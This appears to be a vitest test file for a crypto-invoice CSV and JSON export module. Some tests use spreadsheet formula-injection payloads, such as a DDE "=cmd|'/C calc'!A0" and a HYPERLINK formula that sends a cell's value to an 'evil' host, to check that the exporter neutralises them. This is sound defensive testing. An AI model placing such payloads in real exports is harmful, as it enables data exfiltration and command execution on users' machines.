import { isLosslessNumber, parse as parseLossless } from "lossless-json";
import Papa from "papaparse";
import { describe, expect, it, vi } from "vitest";
import { readArchiveCsv } from "@/lib/browser/archive/csv";
import { exportEnding } from "@/lib/browser/query/export-download";
import {
  EXPORT_INCOMPLETE,
  exportFileName,
  INVOICE_CSV_COLUMNS,
  type Invoice,
  type InvoiceList,
  type InvoiceViewQuery,
  invoiceViewQuerySchema,
} from "@/lib/contract";
import { Problem } from "@/lib/contract/problem";
import { log } from "@/lib/platform/observability/log";
import { csvEncoder, exportStream, invoiceCsvCells, jsonEncoder, planExport } from "./export";

const base: Invoice = {
  invoice_id: "invoice_0190a1d2-1111-7000-8000-000000000001",
  order_id: "ORD-1",
  order_name: "Plain",
  status: "completed",
  fiat_amount: "49.9",
  fiat_currency: "EUR",
  crypto_amount: "0.00081234",
  currency: "BTC",
  allowed_error_percent: 1,
  callback_url: null,
  created_at: "2026-01-31T12:00:00.000Z",
  updated_at: "2026-01-31T12:05:00.000Z",
  expires_at: null,
  priced_in: null,
  payment: {
    address: "bc1qexample",
    network: "bitcoin",
    amount_due: "0.00081234",
    amount_received: "0.00081234",
    rate: "61234.5",
    paid_at: "2026-01-31T12:04:00.000Z",
    confirmations: 3,
    confirmations_required: 2,
    transactions: [
      { tx_hash: "aa11", amount: "0.0004", confirmations: 3, block_height: 1, seen_at: null, explorer_url: null },
      { tx_hash: "bb22", amount: "0.00041234", confirmations: 3, block_height: 2, seen_at: null, explorer_url: null },
    ],
  },
  provider_fields: [],
};

const invoice = (changes: Partial<Invoice>): Invoice => ({ ...base, ...changes });

/** The whole file an encoder writes for these invoices, read back as the stream delivers it. */
async function file(invoices: Invoice[][], encoder = csvEncoder({ bom: false }), failAfter?: number): Promise<string> {
  return new TextDecoder("utf-8", { ignoreBOM: true }).decode(await bytes(invoices, encoder, failAfter));
}

async function bytes(invoices: Invoice[][], encoder: ReturnType<typeof csvEncoder>, failAfter?: number): Promise<ArrayBuffer> {
  async function* pages() {
    for (const [i, page] of invoices.entries()) {
      if (i === failAfter) throw Problem.of("upstream_error", { detail: "It answered HTTP 500." });
      yield page;
    }
  }
  const query = invoiceViewQuerySchema.parse({});
  return new Response(exportStream({ query, total: invoices.flat().length, fileName: "x", pages: pages() }, encoder)).arrayBuffer();
}

const parse = (csv: string) => Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ""), { header: true, skipEmptyLines: true });

describe("CSV export", () => {
  it("writes a header of the invoice columns and one row an invoice, payment fields flattened", async () => {
    const { data, meta } = parse(await file([[base]]));
    expect(meta.fields).toEqual([...INVOICE_CSV_COLUMNS]);
    expect(data).toEqual([
      {
        invoice_id: base.invoice_id,
        order_id: "ORD-1",
        order_name: "Plain",
        status: "completed",
        fiat_amount: "49.9",
        fiat_currency: "EUR",
        crypto_amount: "0.00081234",
        currency: "BTC",
        priced_in: "",
        allowed_error_percent: "1",
        callback_url: "",
        created_at: "2026-01-31T12:00:00.000Z",
        updated_at: "2026-01-31T12:05:00.000Z",
        expires_at: "",
        payment_address: "bc1qexample",
        payment_network: "bitcoin",
        payment_amount_due: "0.00081234",
        payment_amount_received: "0.00081234",
        payment_rate: "61234.5",
        payment_paid_at: "2026-01-31T12:04:00.000Z",
        payment_confirmations: "3",
        payment_confirmations_required: "2",
        tx_hashes: "aa11 bb22",
      },
    ]);
  });

  it("quotes commas, quotes and newlines, and keeps unicode as UTF-8", async () => {
    const names = ['Chairs, 4 "oak"', "line one\nline two\r\nthree", "Café ☕ 日本語 👩‍💻", '"', ","];
    const csv = await file([names.map((order_name, i) => invoice({ order_id: `O-${i}`, order_name }))]);
    expect(csv).toContain('"Chairs, 4 ""oak"""');
    expect(parse(csv).data.map((r) => r.order_name)).toEqual(names);
    expect(new TextEncoder().encode("Café").length).toBe(5);
    expect(csv).toContain("Café ☕ 日本語 👩‍💻");
  });

  it("neutralises cells a spreadsheet would run as a formula, and leaves numbers alone", async () => {
    const dangerous = [
      '=HYPERLINK("http://evil")',
      "+1+1",
      "-2+3",
      "@SUM(A1)",
      "\tcmd",
      "\rcmd",
      '=HYPERLINK("http://evil?"&A2,"x")\nsecond line',
    ];
    const csv = await file([dangerous.map((order_name, i) => invoice({ order_id: `O-${i}`, order_name }))]);
    const cells = parse(csv).data.map((r) => r.order_name);
    expect(cells).toEqual(dangerous.map((d) => `'${d}`));
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // A value that only contains such a character later is left as it is.
    expect(parse(await file([[invoice({ order_name: "a=b-c" })]])).data[0].order_name).toBe("a=b-c");
  });

  it("quotes and neutralises every part a spreadsheet splitting on ; , tab or lines would make", async () => {
    const attack = "x;=cmd|'/C calc'!A0;y";
    const names = [attack, "a\t@SUM(A1)", "ok\r\n+1", "1, -2", "semi;colon"];
    const csv = await file([names.map((order_name, i) => invoice({ order_id: `O-${i}`, order_name }))]);
    const lines = csv.split("\r\n");
    // The attack's cell is written in quotes, its second part neutralised.
    expect(lines[1]).toContain(`,"x;'=cmd|'/C calc'!A0;y",`);
    expect(csv).toContain(',"semi;colon",');
    // Split on ; (many European locales), , or tab — quotes and all — no cell of the file starts a formula.
    for (const delimiter of [";", ",", "\t"]) {
      const { data } = Papa.parse<string[]>(csv, { delimiter, quoteChar: "\u0000", skipEmptyLines: true });
      for (const cell of data.flat()) expect(cell.replace(/^"/, ""), `split on ${JSON.stringify(delimiter)}`).not.toMatch(/^\s*[=+\-@]/);
    }
    // Read as CSV, each cell is the name neutralised; the archive import gets the names back exactly.
    expect(parse(csv).data.map((r) => r.order_name)).toEqual([
      "x;'=cmd|'/C calc'!A0;y",
      "a\t'@SUM(A1)",
      "ok\r\n'+1",
      "1, '-2",
      "semi;colon",
    ]);
    expect(readArchiveCsv(csv).rows.map((r) => r.body?.order_name)).toEqual(names);
  });

  it("writes amounts as they are, even negative plain decimals, unquoted and without a '", async () => {
    const csv = await file([
      [invoice({ fiat_amount: "-12.5", crypto_amount: "-0.00000025", payment: { ...base.payment!, rate: "1000000000000000000000" } })],
    ]);
    const [, row] = csv.split("\r\n");
    expect(row).toContain(",-12.5,EUR,-0.00000025,BTC,");
    expect(row).toContain(",1000000000000000000000,");
    expect(row).not.toContain("'");
  });

  it("leaves absent optional fields empty, with and without payment", async () => {
    const bare = invoice({
      order_name: null,
      status: null,
      fiat_amount: null,
      crypto_amount: null,
      currency: null,
      allowed_error_percent: null,
      created_at: null,
      updated_at: null,
      payment: null,
    });
    const [row] = parse(await file([[bare]])).data;
    for (const column of INVOICE_CSV_COLUMNS.filter((c) => !["invoice_id", "order_id", "fiat_currency"].includes(c)))
      expect(row[column], column).toBe("");
    const noTx = invoice({ payment: { ...base.payment!, transactions: [{ ...base.payment!.transactions[0], tx_hash: null }] } });
    expect(parse(await file([[noTx]])).data[0].tx_hashes).toBe("");
  });

  it("writes amounts with exactly the provider's digits: 18 decimals, 15-digit euros, trailing zeros", async () => {
    const exact = invoice({
      fiat_amount: "100000000000000.01",
      crypto_amount: "0.123456789012345678",
      payment: { ...base.payment!, amount_due: "12345.123456789012345678", amount_received: "0.000000000000000001", rate: "3180.10" },
    });
    const [row] = parse(await file([[exact]])).data;
    expect(row).toMatchObject({
      fiat_amount: "100000000000000.01",
      crypto_amount: "0.123456789012345678",
      payment_amount_due: "12345.123456789012345678",
      payment_amount_received: "0.000000000000000001",
      payment_rate: "3180.10",
    });
    expect(invoiceCsvCells(invoice({ crypto_amount: "0.00000001" }))[INVOICE_CSV_COLUMNS.indexOf("crypto_amount")]).toBe("0.00000001");
  });

  it("writes which amount the invoice was priced in, empty when the provider does not say", async () => {
    const rows = [
      invoice({ order_id: "P-1", priced_in: "crypto" }),
      invoice({ order_id: "P-2", priced_in: "fiat" }),
      invoice({ order_id: "P-3", priced_in: null }),
    ];
    expect(parse(await file([rows])).data.map((r) => r.priced_in)).toEqual(["crypto", "fiat", ""]);
    // Read back: the amount it was priced in is the one the import sends, the other is derived again.
    const imported = readArchiveCsv(await file([rows])).rows;
    expect(imported.map((r) => [r.body?.fiat_amount ?? null, r.body?.crypto_amount ?? null])).toEqual([
      [null, "0.00081234"],
      ["49.9", null],
      ["49.9", null],
    ]);
  });

  it("starts with a byte order mark only when asked (for Excel)", async () => {
    const withBom = new Uint8Array(await bytes([[base]], csvEncoder({ bom: true })));
    expect([...withBom.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect((await file([[base]])).startsWith("invoice_id,")).toBe(true);
  });

  it("is read back by the archive import: the POST /archived columns of every row, a neutralised name restored", async () => {
    const rows = [
      invoice({ order_id: "A-1", order_name: "=cmd|' /C calc'!A0" }),
      invoice({ order_id: "A-2", order_name: 'Chairs, 4 "oak"\nsecond line', fiat_amount: "0.5" }),
    ];
    const imported = readArchiveCsv(await file([rows], csvEncoder({ bom: true })));
    expect(imported.missingColumns).toEqual([]);
    expect(imported.fileProblems).toEqual([]);
    expect(imported.rows.map((r) => r.problems)).toEqual([[], []]);
    expect(imported.rows.map((r) => r.body)).toEqual([
      {
        order_id: "A-1",
        order_name: "=cmd|' /C calc'!A0",
        fiat_amount: "49.9",
        fiat_currency: "EUR",
        currency: "BTC",
        allowed_error_percent: 1,
        created_at: "2026-01-31T12:00:00.000Z",
      },
      {
        order_id: "A-2",
        order_name: 'Chairs, 4 "oak"\nsecond line',
        fiat_amount: "0.5",
        fiat_currency: "EUR",
        currency: "BTC",
        allowed_error_percent: 1,
        created_at: "2026-01-31T12:00:00.000Z",
      },
    ]);
  });

  it("ends a file whose walk failed midway with a row that says so, which the archive import refuses", async () => {
    const csv = await file(
      [[invoice({ order_id: "P1" })], [invoice({ order_id: "P2" })], [invoice({ order_id: "P3" })]],
      csvEncoder({ bom: false }),
      2,
    );
    const { data } = Papa.parse<string[]>(csv, { skipEmptyLines: true });
    expect(data).toHaveLength(4);
    expect(data[3][0]).toMatch(
      new RegExp(`^${EXPORT_INCOMPLETE}: only the first 2 rows are here\\. The invoicing API failed midway \\(.*HTTP 500`),
    );
    const imported = readArchiveCsv(csv);
    expect(imported.fileProblems).toEqual([
      expect.stringMatching(/^This is an incomplete export: only the first 2 rows are here\. The invoicing API failed midway/),
    ]);
    expect(imported.rows.map((r) => r.order_id)).toEqual(["P1", "P2"]);
  });
});

describe("CSV export: a walk that fails", () => {
  it("logs an unexpected error once (its stack, by toProblem) and a provider's problem once, as a warning", async () => {
    const warned = vi.spyOn(log, "warn").mockImplementation(() => {});
    const failed = vi.spyOn(log, "error").mockImplementation(() => {});
    async function* broken(error: unknown) {
      yield [invoice({ order_id: "P1" })];
      throw error;
    }
    const query = invoiceViewQuerySchema.parse({});
    const walk = (error: unknown) =>
      new Response(exportStream({ query, total: 2, fileName: "x", pages: broken(error) }, csvEncoder({ bom: false }))).text();
    const unexpected = new TypeError("cannot read properties of undefined");
    await walk(unexpected);
    expect(failed).toHaveBeenCalledTimes(1);
    expect(failed).toHaveBeenCalledWith({ err: unexpected }, "unexpected error");
    expect(warned).not.toHaveBeenCalled();
    await walk(Problem.of("upstream_error", { detail: "It answered HTTP 500." }));
    expect(failed).toHaveBeenCalledTimes(1);
    expect(warned).toHaveBeenCalledTimes(1);
    vi.restoreAllMocks();
  });
});

describe("CSV export: the mark of a failed walk", () => {
  it("is neutralised like any cell, and read back as it was by the archive import and the download", () => {
    const encoder = csvEncoder({ bom: false });
    const end = encoder.end(2, Problem.of("upstream_error", { detail: "Bad gateway; =cmd|'/C calc'!A0" }));
    const csv = encoder.start({ query: invoiceViewQuerySchema.parse({}), total: 2 }) + end;
    const [cell] = Papa.parse<string[]>(end).data[0];
    expect(cell).toContain("; '=cmd|'/C calc'!A0");
    expect(cell.split(/[;,\t\r\n]/).filter((part) => /^\s*[=+\-@]/.test(part))).toEqual([]);
    expect(readArchiveCsv(csv).fileProblems).toEqual([
      expect.stringContaining("The invoicing API failed. Bad gateway; =cmd|'/C calc'!A0). Export again."),
    ]);
    expect(exportEnding(csv, "csv")).toEqual({
      complete: false,
      message: expect.stringContaining("The invoicing API failed. Bad gateway; =cmd|'/C calc'!A0). Export again."),
    });
  });
});

/** A JSON export read back with every amount's digits as text (and other numbers as numbers), to compare with invoices. */
const AMOUNT_KEYS = new Set(["fiat_amount", "crypto_amount", "amount_due", "amount_received", "rate", "amount"]);
function readJsonExport(text: string) {
  return parseLossless(text, (key, value) =>
    isLosslessNumber(value) ? (AMOUNT_KEYS.has(key) ? value.value : value.valueOf()) : value,
  ) as {
    export: unknown;
    items: Invoice[];
    complete: boolean;
    row_count: number;
    error?: { detail: string };
  };
}

describe("JSON export", () => {
  it("writes amounts as raw JSON numbers with exactly the provider's digits", async () => {
    const exact = invoice({
      fiat_amount: "100000000000000.01",
      crypto_amount: "0.123456789012345678",
      payment: { ...base.payment!, amount_due: "12345.123456789012345678", amount_received: "0.000000000000000001", rate: "3180.10" },
    });
    const text = await file([[exact]], jsonEncoder());
    for (const literal of [
      '"fiat_amount":100000000000000.01',
      '"crypto_amount":0.123456789012345678',
      '"amount_due":12345.123456789012345678',
      '"amount_received":0.000000000000000001',
      '"rate":3180.10',
    ]) {
      expect(text).toContain(literal);
    }
    expect(readJsonExport(text).items[0]).toEqual(exact);
  });

  it("writes priced_in beside the amounts, null when the provider does not say", async () => {
    const text = await file([[invoice({ order_id: "P-1", priced_in: "crypto" }), invoice({ order_id: "P-2" })]], jsonEncoder());
    expect(readJsonExport(text).items.map((i) => i.priced_in)).toEqual(["crypto", null]);
  });

  it("holds the filter, the total, every invoice and says it is complete", async () => {
    const body = readJsonExport(
      await file([[base, invoice({ order_id: "ORD-2" })], [invoice({ order_id: "ORD-3" })]], jsonEncoder(new Date("2026-02-01T00:00:00Z"))),
    );
    expect(body.export).toEqual({
      started_at: "2026-02-01T00:00:00.000Z",
      filter: { sort_by: "created_at", sort_order: "desc" },
      total_records: 3,
    });
    expect(body.items.map((i: Invoice) => i.order_id)).toEqual(["ORD-1", "ORD-2", "ORD-3"]);
    expect(body.items[0]).toEqual(base);
    expect(body).toMatchObject({ complete: true, row_count: 3 });
  });

  it("keeps text as it is: no ' is added to a formula-like name", async () => {
    const named = invoice({ order_name: "x;=cmd|'/C calc'!A0;y\n=1+1" });
    const body = readJsonExport(await file([[named]], jsonEncoder()));
    expect(body.items[0]).toEqual(named);
  });

  it("writes one invoice a line, so a reader can count rows as they arrive", async () => {
    const text = await file([[base, base], [base]], jsonEncoder());
    expect(text.split("\n").filter((l) => l.replace(/^,/, "").startsWith('{"invoice_id"'))).toHaveLength(3);
  });

  it("says complete: false with the problem when the walk failed midway", async () => {
    const body = JSON.parse(await file([[base], [base]], jsonEncoder(), 1));
    expect(body).toMatchObject({ complete: false, row_count: 1, error: { status: 502, code: "upstream_error" } });
    expect(body.error.detail).toContain(`${EXPORT_INCOMPLETE}: only the first 1 rows are here`);
    expect(body.items).toHaveLength(1);
  });
});

describe("the walk", () => {
  const list = (items: Invoice[], page: number, pages: number, total: number): InvoiceList => ({
    items,
    pagination: {
      current_page: page,
      page_size: 100,
      total_pages: pages,
      total_records: total,
      has_next: page < pages,
      has_previous: page > 1,
    },
  });

  it("bounds the view at the moment the export starts, keeps filter and sort, asks 100 a page", async () => {
    const asked: InvoiceViewQuery[] = [];
    const view = invoiceViewQuerySchema.parse({
      status: "cancelled",
      sort_by: "fiat_amount",
      sort_order: "asc",
      page: "3",
      page_size: "20",
    });
    const plan = await planExport(
      async (q) => (asked.push(q), list([], 1, 1, 0)),
      view,
      { format: "csv" },
      "UTC",
      new Date("2026-03-01T10:00:00Z"),
    );
    expect(asked).toEqual([
      {
        status: ["cancelled"],
        sort_by: "fiat_amount",
        sort_order: "asc",
        page: 1,
        page_size: 100,
        created_before: "2026-03-01T10:00:00.000Z",
      },
    ]);
    expect(plan.fileName).toBe("invoices_cancelled_until_2026-03-01.csv");
    const earlier = invoiceViewQuerySchema.parse({ created_before: "2026-01-01T00:00:00Z" });
    expect(
      (
        await planExport(
          async (q) => (asked.push(q), list([], 1, 1, 0)),
          earlier,
          { format: "json" },
          "UTC",
          new Date("2026-03-01T10:00:00Z"),
        )
      ).query.created_before,
    ).toBe("2026-01-01T00:00:00.000Z");
  });

  it("writes a row the previous page already wrote only once", async () => {
    const ids = (n: number, from = 0) => Array.from({ length: n }, (_, i) => invoice({ invoice_id: `inv-${from + i}` }));
    // Page 2 was asked after one invoice was added before it: its first row is page 1's last.
    const pages = [list(ids(100), 1, 2, 150), list([...ids(1, 99), ...ids(50, 100)], 2, 2, 151)];
    const plan = await planExport(async (q) => pages[q.page - 1], invoiceViewQuerySchema.parse({}), { format: "csv" }, "UTC");
    const seen: string[] = [];
    for await (const page of plan.pages) seen.push(...page.map((i) => i.invoice_id));
    expect(seen).toEqual(ids(150).map((i) => i.invoice_id));
  });
});

describe("the file name", () => {
  const q = (raw: Record<string, string>) => invoiceViewQuerySchema.parse(raw);
  it("says what the file holds, with both days of a range included", () => {
    expect(
      exportFileName(
        q({ status: "cancelled", created_after: "2025-12-31T23:59:59.999Z", created_before: "2026-04-01T00:00:00.000Z" }),
        "csv",
        "UTC",
      ),
    ).toBe("invoices_cancelled_2026-01-01_2026-03-31.csv");
    expect(exportFileName(q({ currency: "USDT.TRC20", created_after: "2025-12-31T23:59:59.999Z" }), "json", "UTC")).toBe(
      "invoices_all_usdt-trc20_from_2026-01-01.json",
    );
    expect(exportFileName(q({}), "csv", "UTC")).toBe("invoices_all.csv");
    // A search, in ASCII letters and digits only (no path, no quote, no formula, nothing a header cannot carry).
    expect(exportFileName(q({ q: "ORD-2611 / Café" }), "csv", "UTC")).toBe("invoices_all_matching_ord-2611-caf.csv");
    expect(exportFileName(q({ q: '../"=cmd|' }), "csv", "UTC")).toBe("invoices_all_matching_cmd.csv");
    expect(exportFileName(q({ q: "—" }), "csv", "UTC")).toBe("invoices_all.csv");
    // Excel's CSV is named apart, so that downloading both keeps both.
    expect(exportFileName(q({ status: "completed" }), "csv", "UTC", true)).toBe("invoices_completed_excel.csv");
    expect(exportFileName(q({}), "json", "UTC", true)).toBe("invoices_all.json");
    // Days of the zone the view was counted in: Berlin's 21 November, not the UTC days it straddles.
    const berlinDay = q({ created_after: "2026-11-20T22:59:59.999Z", created_before: "2026-11-21T23:00:00.000Z" });
    expect(exportFileName(berlinDay, "csv", "Europe/Berlin")).toBe("invoices_all_2026-11-21_2026-11-21.csv");
    expect(exportFileName(berlinDay, "csv", "UTC")).toBe("invoices_all_2026-11-20_2026-11-21.csv");
    // The last and first instants the contract takes name days of their own, not +010000-01-01.
    expect(exportFileName(q({ created_after: "9999-12-31T23:59:59.999Z" }), "csv", "UTC")).toBe("invoices_all_from_9999-12-31.csv");
    expect(exportFileName(q({ created_before: "0001-01-01T00:00:00.000Z" }), "csv", "UTC")).toBe("invoices_all_until_0001-01-01.csv");
  });
});

describe("a reader that goes away", () => {
  it("stops the walk: no page is asked for after the cancel, and nothing is written", async () => {
    let asked = 0;
    let release: () => void = () => {};
    async function* pages() {
      for (;;) {
        asked++;
        await new Promise<void>((resolve) => (release = resolve));
        yield [base];
      }
    }
    const logged = [vi.spyOn(log, "warn"), vi.spyOn(log, "error")];
    const stream = exportStream(
      { query: invoiceViewQuerySchema.parse({}), total: 1000, fileName: "x", pages: pages() },
      csvEncoder({ bom: false }),
    );
    const reader = stream.getReader();
    await reader.read(); // the header
    const pending = reader.read(); // asks for a page, which is still on its way
    await new Promise((resolve) => setTimeout(resolve, 10));
    await Promise.all([reader.cancel(), Promise.resolve().then(() => release())]);
    expect(await pending).toEqual({ done: true, value: undefined });
    await new Promise((resolve) => setTimeout(resolve, 10));
    expect(asked).toBe(1);
    // The page that arrived after the cancel is dropped quietly, not reported as a failed export.
    for (const spy of logged) expect(spy).not.toHaveBeenCalled();
  });
});
